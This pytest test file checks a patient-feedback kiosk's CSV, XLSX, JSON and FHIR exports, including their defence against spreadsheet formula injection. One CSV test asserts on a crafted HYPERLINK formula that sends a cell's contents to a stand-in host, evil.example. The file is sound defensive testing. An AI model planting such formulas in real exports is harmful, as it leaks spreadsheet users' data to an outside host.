"""Exports on crafted data: every format read back, injections neutralised, non-Latin text intact."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from export_helpers import (
    ARABIC,
    CHINESE,
    DANGEROUS,
    EMOJI,
    crafted_records,
    record,
    resolver,
)

from kiosk.exports import (
    ExportError,
    ExportOptions,
    FilterError,
    Layout,
    Progress,
    RecordFilter,
    SurveyBook,
    export_file,
    neutralise,
    parse_moment,
    scan,
    write_export,
)
from kiosk.exports.table import METADATA, merge_order

ROOT = Path(__file__).resolve().parent.parent
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
QUESTIONS = ["overall", "topics", "parking", "recommend", "returning", "why"]


def export_bytes(fmt: str, records: list[dict[str, Any]], **options: Any) -> bytes:
    out = io.BytesIO()
    plan = scan(records) if fmt in ("csv", "xlsx") else None
    write_export(fmt, out, iter(records), resolver, plan=plan, options=ExportOptions(**options))
    return out.getvalue()


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> dict[str, list[list[Any]]]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book.worksheets}


# -- the table ----------------------------------------------------------------------------------


def test_columns_merge_versions_in_question_order() -> None:
    layout = Layout(scan(crafted_records()), SurveyBook(resolver))
    assert layout.headers == [*METADATA, *QUESTIONS]


def test_merge_order_places_a_new_question_after_its_predecessor() -> None:
    assert merge_order([["a", "b", "d"], ["a", "c", "d", "e"], ["x", "a"]]) == ["x", "a", "c", "b", "d", "e"]


def test_question_named_like_a_metadata_column_gets_a_prefix() -> None:
    records = [record({"status": "fine"}, survey_id="unknown")]
    layout = Layout(scan(records), SurveyBook(resolver))
    assert layout.headers[-1] == "answers.status"
    assert layout.row(records[0])[-1] == "fine"
    assert layout.row(records[0])[METADATA.index("status")] == "completed"


def test_unknown_survey_keeps_every_answer_in_columns_by_name() -> None:
    records = [record({"zeta": 1, "alpha": ["x", "y"]}, survey_id="gone", version=7)]
    book = SurveyBook(resolver)
    layout = Layout(scan(records), book)
    assert layout.headers[len(METADATA) :] == ["alpha", "zeta"]
    assert layout.row(records[0])[len(METADATA) :] == ["x; y", 1]
    assert book.missing == [("gone", 7)]


def test_answer_outside_the_definition_is_not_dropped() -> None:
    records = [record({"overall": 4, "extra_q": "kept"})]
    layout = Layout(scan(records), SurveyBook(resolver))
    assert layout.row(records[0])[layout.headers.index("extra_q")] == "kept"


def test_answer_the_plan_never_saw_stops_the_export() -> None:
    layout = Layout(scan([record({"overall": 4})]), SurveyBook(resolver))
    with pytest.raises(ExportError, match="run the export again"):
        layout.row(record({"overall": 4, "late_q": "x"}, survey_id="other"))


def test_malformed_record_gives_empty_cells_not_a_crash() -> None:
    odd = {"id": "x", "survey_version": "one", "answers": {"q": {"nested": 1}}}
    layout = Layout(scan([odd]), SurveyBook(resolver))
    row = layout.row(odd)
    assert row[0] == "x" and row[1] is None and row[-1] == '{"nested": 1}'


@pytest.mark.parametrize("first", DANGEROUS)
def test_neutralise_prefixes_each_dangerous_first_character(first: str) -> None:
    assert neutralise(f"{first}cmd") == f"'{first}cmd"


def test_neutralise_leaves_safe_text_alone() -> None:
    for safe in ("", "ok", " =1+1", "a=b", "'quoted", ARABIC, EMOJI):
        assert neutralise(safe) == safe


# -- filters ------------------------------------------------------------------------------------


def test_dates_and_times_parse_to_utc_bounds() -> None:
    assert parse_moment("2026-11-27", "--since") == datetime(2026, 11, 27, tzinfo=UTC)
    assert parse_moment("2026-11-27", "--until", end=True) == datetime(2026, 11, 28, tzinfo=UTC)
    assert parse_moment("2026-11-27T10:00:00Z", "--since") == datetime(2026, 11, 27, 10, tzinfo=UTC)
    assert parse_moment("2026-11-27T12:00:00+02:00", "--since") == datetime(2026, 11, 27, 10, tzinfo=UTC)
    assert parse_moment("2026-11-27T10:00", "--since") == datetime(2026, 11, 27, 10, tzinfo=UTC)


@pytest.mark.parametrize("bad", ["2026-13-01", "yesterday", "27/11/2026", "2026-11-27T25:00", ""])
def test_bad_dates_say_which_option_and_what(bad: str) -> None:
    with pytest.raises(FilterError, match=r"--since: .* is not a date"):
        RecordFilter.parse(since=bad or " ")


def test_until_a_date_includes_that_whole_day() -> None:
    chosen = RecordFilter.parse(since="2026-11-26", until="2026-11-26")
    stamps = {r["submitted_at"] for r in chosen.apply(crafted_records())}
    assert stamps == {"2026-11-26T09:01:10Z", "2026-11-26T23:59:59Z"}


def test_until_a_time_is_inclusive_of_that_second() -> None:
    chosen = RecordFilter.parse(until="2026-11-26T23:59:59Z")
    assert max(r["submitted_at"] for r in chosen.apply(crafted_records())) == "2026-11-26T23:59:59Z"


def test_filters_by_survey_and_statuses() -> None:
    chosen = RecordFilter.parse(survey_id="clinic-test", statuses=["partial", "handed_off"])
    assert sorted(r["status"] for r in chosen.apply(crafted_records())) == ["handed_off", "partial"]
    assert not list(RecordFilter.parse(survey_id="fft").apply(crafted_records()))


def test_since_after_until_is_refused() -> None:
    with pytest.raises(FilterError, match="after --until"):
        RecordFilter.parse(since="2026-11-28", until="2026-11-27")


def test_unknown_status_is_refused() -> None:
    with pytest.raises(FilterError, match="--status"):
        RecordFilter.parse(statuses=["done"])


def test_store_bounds_are_wider_than_the_filter() -> None:
    chosen = RecordFilter.parse(since="2026-11-26", until="2026-11-26", statuses=["partial"])
    bounds = chosen.store_arguments()
    assert chosen.since is not None and chosen.before is not None
    assert bounds["since"] < chosen.since and bounds["until"] > chosen.before
    assert bounds["status"] == "partial"


# -- CSV ----------------------------------------------------------------------------------------


def test_csv_round_trips_text_and_neutralises_injection() -> None:
    records = crafted_records()
    rows = read_csv(export_bytes("csv", records))
    assert [r["id"] for r in rows] == [r["id"] for r in records]
    assert rows[0]["topics"] == "staff; wait" and rows[0]["why"] == EMOJI
    assert rows[0]["returning"] == "true" and rows[1]["returning"] == "false"
    assert rows[1]["why"] == ARABIC and rows[2]["why"] == CHINESE
    assert rows[2]["status"] == "partial" and rows[3]["status"] == "handed_off"
    assert rows[3]["survey_version"] == "2" and rows[3]["parking"] == "hard"
    assert rows[0]["parking"] == "", "v1 never asked about parking"
    for row, original in zip(rows[4:], records[4:], strict=True):
        assert row["why"] == "'" + original["answers"]["why"]
        assert row["recommend"] == str(original["answers"]["recommend"])
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in DANGEROUS


def test_csv_quotes_every_field_so_separators_cannot_split_a_cell() -> None:
    data = export_bytes("csv", crafted_records()[4:5]).decode("utf-8-sig")
    line = data.splitlines()[1]
    assert line.startswith('"') and line.endswith('"')
    assert ',"\'=HYPERLINK(""https://evil.example/?""&A1,""click""),;=1+1"' in line


def test_csv_labels_in_each_responses_language_neutralised() -> None:
    rows = read_csv(export_bytes("csv", crafted_records(), labels=True))
    assert rows[0]["topics"] == "Staff; =Waiting time", "safe: the cell starts with S"
    assert rows[0]["overall"] == "Very good" and rows[0]["returning"] == "yes"
    assert rows[0]["recommend"] == "10", "a scale without labels keeps its number"
    assert rows[1]["topics"] == "التكلفة" and rows[1]["overall"] == "جيد"
    assert rows[3]["topics"] == "'=Waiting time" and rows[3]["parking"] == "'-Hard"


def test_labels_only_for_answers_the_question_accepts() -> None:
    """A malformed score must not borrow a neighbour's label (0 would index the last one)."""
    records = [record({"overall": 0, "topics": ["staff", "nope"]}), record({"overall": 4})]
    layout = Layout(scan(records), SurveyBook(resolver), labels=True)
    column = {h: i for i, h in enumerate(layout.headers)}
    assert [layout.row(r)[column["overall"]] for r in records] == [0, "Good"]
    assert layout.row(records[0])[column["topics"]] == "staff; nope"


def test_csv_labels_in_a_chosen_language() -> None:
    rows = read_csv(export_bytes("csv", crafted_records(), labels=True, label_language="zh"))
    assert rows[1]["topics"] == "'+费用", "a label is text from a file someone edited: neutralised too"
    assert rows[0]["overall"] == "很好" and rows[3]["parking"] == "难"


def test_csv_of_nothing_is_a_header() -> None:
    data = export_bytes("csv", [])
    assert data.decode("utf-8-sig").splitlines() == [",".join(f'"{m}"' for m in METADATA)]


# -- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_keeps_text_exact_and_never_writes_a_formula() -> None:
    import openpyxl

    records = crafted_records()
    data = export_bytes("xlsx", records)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["responses"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == [*METADATA, *QUESTIONS]
    col = {name: i for i, name in enumerate(header)}
    body = rows[1:]
    assert [r[col["id"]].value for r in body] == [r["id"] for r in records]
    assert body[0][col["why"]].value == EMOJI and body[1][col["why"]].value == ARABIC
    assert body[2][col["why"]].value == CHINESE
    assert body[0][col["overall"]].value == 5 and body[0][col["returning"]].value is True
    assert body[0][col["topics"]].value == "staff; wait"
    assert body[0][col["parking"]].value is None and body[3][col["parking"]].value == "hard"
    assert body[0][col["survey_version"]].value == 1
    for row, original in zip(body[4:], records[4:], strict=True):
        cell = row[col["why"]]
        assert cell.value == original["answers"]["why"], "the patient's words, exactly (CR too)"
        assert cell.data_type == "s" and cell.quotePrefix, "stored as text, kept as text when edited"
    assert all(c.data_type != "f" for r in rows for c in r)


def test_xlsx_codebook_describes_both_versions() -> None:
    codebook = read_xlsx(export_bytes("xlsx", crafted_records(), label_language="ar"))["codebook"]
    header = [c.value for c in codebook[0]]
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in codebook[1:]]
    assert {r["column"] for r in rows if r["type"] == "metadata"} == set(METADATA)
    parking = [r for r in rows if r["question_id"] == "parking"]
    assert {r["survey_version"] for r in parking} == {2}
    assert [(r["value"], r["label"]) for r in parking] == [("easy", "سهل"), ("hard", "صعب")]
    topics_v1 = [r for r in rows if r["question_id"] == "topics" and r["survey_version"] == 1]
    assert [r["value"] for r in topics_v1] == ["staff", "wait", "cost"]
    assert topics_v1[0]["text"] == "ما الذي يهم؟" and topics_v1[0]["type"] == "multiple_choice"
    assert [(r["value"], r["label"]) for r in rows if r["question_id"] == "returning"][:2] == [
        (True, "yes"),
        (False, "no"),
    ]


def test_xlsx_labels_with_formula_characters_stay_text() -> None:
    sheets = read_xlsx(export_bytes("xlsx", crafted_records(), labels=True))
    header = [c.value for c in sheets["responses"][0]]
    wait = sheets["responses"][4][header.index("topics")]
    assert wait.value == "=Waiting time" and wait.data_type == "s" and wait.quotePrefix


@pytest.mark.parametrize(
    "words",
    [
        "bell\x07 and nul\x00",
        "looks like an escape: _x0041_",
        "a & b < c > d",
        "line\r\nbreak\r",
        "\x1f" + EMOJI,
    ],
)
def test_xlsx_text_escapes_decode_to_the_exact_words(words: str) -> None:
    """Decoded as Excel does (XML, then its _xHHHH_ escapes; openpyxl's unescape follows that rule)."""
    from openpyxl.utils.escape import unescape

    data = export_bytes("xlsx", [record({"why": words})])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    texts = [t.text for t in sheet.iter(f"{{{MAIN}}}t")]
    assert unescape(texts[-1]) == words


def test_xlsx_lone_surrogate_becomes_a_replacement_character() -> None:
    sheets = read_xlsx(export_bytes("xlsx", [record({"why": "half \ud83d"})]))
    assert sheets["responses"][1][-1].value == "half \ufffd"


def test_xlsx_package_parts_are_well_formed_and_typed() -> None:
    data = export_bytes("xlsx", crafted_records())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = set(z.namelist())
        assert {
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
            "xl/worksheets/sheet2.xml",
        } <= names
        assert len([n for n in names if n.startswith("xl/worksheets/sheet")]) == 2
        for name in names:
            ElementTree.fromstring(z.read(name))
        types = z.read("[Content_Types].xml").decode()
        assert "spreadsheetml.sheet.main+xml" in types and types.count("worksheet+xml") == 2


def test_failed_xlsx_leaves_no_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """openpyxl streams a sheet through a temporary file; a failed export must not leave it behind."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    records = crafted_records()

    def failing() -> Any:
        yield from records[:3]
        raise ExportError("the database went away")

    with pytest.raises(ExportError, match="went away"):
        write_export("xlsx", io.BytesIO(), failing(), resolver, plan=scan(records))
    assert list(tmp_path.iterdir()) == []
    export_bytes("xlsx", records)
    assert list(tmp_path.iterdir()) == []


ESCAPED_WORDS = ["bell\x07 and nul\x00", "looks like an escape: _x0041_", "line\r\nbreak\r", "=1+1", "#N/A"]
WITHOUT_LXML = """
import io, json, sys, zipfile
sys.modules["lxml"] = None  # as on a kiosk, which installs openpyxl but not lxml
from xml.etree import ElementTree
import openpyxl
from openpyxl.utils.escape import unescape
from export_helpers import record, resolver
from kiosk.exports import scan, write_export
records = [record({"why": w}) for w in json.loads(sys.argv[1])]
out = io.BytesIO()
write_export("xlsx", out, iter(records), resolver, plan=scan(records))
with zipfile.ZipFile(out) as z:
    sheet = z.read("xl/worksheets/sheet1.xml")
body = list(ElementTree.fromstring(sheet).iter("{%s}row" % sys.argv[2]))[1:]
texts = [list(row.iter("{%s}t" % sys.argv[2]))[-1].text for row in body]
rows = list(openpyxl.load_workbook(out)["responses"].iter_rows(min_row=2))
print(json.dumps({
    "lxml": openpyxl.LXML,
    "formula": b"<f>" in sheet or b"<f " in sheet,
    "why": [unescape(t) for t in texts],
    "text": [(r[-1].data_type, bool(r[-1].quotePrefix)) for r in rows],
}))
"""


def test_xlsx_without_lxml_keeps_the_exact_words() -> None:
    """A kiosk has openpyxl without lxml, whose XML writer leaves a carriage return raw."""
    done = subprocess.run(
        [sys.executable, "-c", WITHOUT_LXML, json.dumps(ESCAPED_WORDS), MAIN],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), str(ROOT / "tests")])},
    )
    seen = json.loads(done.stdout)
    assert seen["lxml"] is False and seen["formula"] is False
    assert seen["why"] == ESCAPED_WORDS, "decoded as Excel does"
    assert seen["text"][-2:] == [["s", True], ["s", True]], "a formula and an error value stay text"


# -- JSON ---------------------------------------------------------------------------------------


def test_json_is_the_records_exactly() -> None:
    records = crafted_records()
    assert json.loads(export_bytes("json", records)) == records
    assert json.loads(export_bytes("json", [])) == []


def test_jsonl_is_one_record_per_line() -> None:
    records = crafted_records()
    lines = export_bytes("jsonl", records).decode("utf-8").splitlines()
    assert [json.loads(line) for line in lines] == records
    assert ARABIC in lines[1] and EMOJI in lines[0], "UTF-8, not \\u escapes"


def test_json_keeps_a_lone_surrogate_as_its_escape() -> None:
    records = [record({"why": "half \ud83d"})]
    assert json.loads(export_bytes("json", records)) == records


# -- FHIR ---------------------------------------------------------------------------------------


def fhir_bundle(records: list[dict[str, Any]]) -> Any:
    from fhir.resources.R4B.bundle import Bundle

    data = export_bytes("fhir", records)
    return json.loads(data), Bundle.model_validate_json(data)


def test_fhir_bundle_validates_and_maps_every_type() -> None:
    from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse

    records = crafted_records()
    raw, bundle = fhir_bundle(records)
    assert bundle.type == "collection" and len(bundle.entry) == len(records)
    responses = [e.resource for e in bundle.entry]
    assert all(isinstance(r, QuestionnaireResponse) for r in responses)
    first = raw["entry"][0]["resource"]
    assert first["id"] == records[0]["id"] and first["authored"] == records[0]["submitted_at"]
    assert first["questionnaire"] == "https://patient-feedback-kiosk.example/fhir/Questionnaire/clinic-test|1"
    assert first["status"] == "completed" and first["language"] == "en"
    items = {i["linkId"]: i for i in first["item"]}
    assert [i["linkId"] for i in first["item"]] == ["overall", "topics", "recommend", "returning", "why"]
    assert items["overall"]["answer"] == [{"valueInteger": 5}]
    assert items["returning"]["answer"] == [{"valueBoolean": True}]
    assert items["why"]["answer"] == [{"valueString": EMOJI}]
    codings = [a["valueCoding"] for a in items["topics"]["answer"]]
    assert [(c["code"], c["display"]) for c in codings] == [("staff", "Staff"), ("wait", "=Waiting time")]
    assert codings[0]["system"] == "https://patient-feedback-kiosk.example/fhir/Questionnaire/clinic-test"
    arabic = raw["entry"][1]["resource"]
    assert {i["linkId"]: i for i in arabic["item"]}["why"]["answer"] == [{"valueString": ARABIC}]
    assert arabic["item"][0]["text"] == "بشكل عام؟"
    assert [r.status for r in responses[2:4]] == ["in-progress", "in-progress"]
    assert raw["entry"][3]["resource"]["questionnaire"].endswith("clinic-test|2")
    assert raw["entry"][2]["resource"]["item"][-1]["answer"] == [{"valueString": CHINESE}]


def test_fhir_empty_bundle_has_no_empty_entry_array() -> None:
    raw, bundle = fhir_bundle([])
    assert "entry" not in raw and bundle.type == "collection"


def test_fhir_unknown_survey_still_carries_every_answer() -> None:
    records = [record({"a": "x", "b": 3, "c": ["p", "q"]}, survey_id="gone")]
    raw, _ = fhir_bundle(records)
    items = raw["entry"][0]["resource"]["item"]
    assert [i["answer"] for i in items] == [
        [{"valueString": "x"}],
        [{"valueInteger": 3}],
        [{"valueString": "p"}, {"valueString": "q"}],
    ]


# -- progress and files -------------------------------------------------------------------------


class FakeClock:
    def __init__(self, step: float) -> None:
        self.now = 0.0
        self.step = step

    def __call__(self) -> float:
        self.now += self.step
        return self.now


def test_progress_appears_only_after_a_second() -> None:
    stream = io.StringIO()
    quick = Progress("exporting csv", 10, stream=stream, clock=FakeClock(0.01))
    quick.update(5)
    quick.finish(10)
    assert stream.getvalue() == ""
    slow = Progress("exporting csv", 4000, stream=stream, clock=FakeClock(0.6))
    slow.update(1024)
    assert stream.getvalue() == ""
    slow.update(2048)
    slow.finish(4000)
    out = stream.getvalue()
    assert "\rexporting csv [###############" in out and " 51% 2,048/4,000" in out
    assert out.endswith("100% 4,000/4,000   1.8 s\n")


def test_long_export_draws_the_bar_when_forced() -> None:
    stream = io.StringIO()
    records = crafted_records() * 300
    progress = Progress("exporting jsonl", len(records), stream=stream, clock=FakeClock(0.5))
    write_export("jsonl", io.BytesIO(), records, resolver, progress=progress)
    assert "\rexporting jsonl [" in stream.getvalue() and "3,000/3,000" in stream.getvalue()


def test_disabled_progress_writes_nothing() -> None:
    stream = io.StringIO()
    progress = Progress("x", 10, stream=stream, enabled=False, clock=FakeClock(5))
    progress.update(5)
    progress.finish(10)
    assert stream.getvalue() == ""


def test_export_file_appears_only_when_complete(tmp_path: Path) -> None:
    def broken() -> Any:
        yield from crafted_records()[:2]
        raise RuntimeError("disk went away")

    target = tmp_path / "out.csv"
    with pytest.raises(RuntimeError):
        export_file(target, "csv", broken, resolver, show_progress=False)
    assert list(tmp_path.iterdir()) == []
    result = export_file(target, "csv", crafted_records, resolver, show_progress=False)
    assert result.count == len(crafted_records()) and result.missing_surveys == []
    assert len(read_csv(target.read_bytes())) == result.count
    assert target.stat().st_mode & 0o777 == 0o600


def test_export_file_to_a_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"out\.json: cannot write: No such file"):
        export_file(tmp_path / "nope" / "out.json", "json", crafted_records, resolver, show_progress=False)
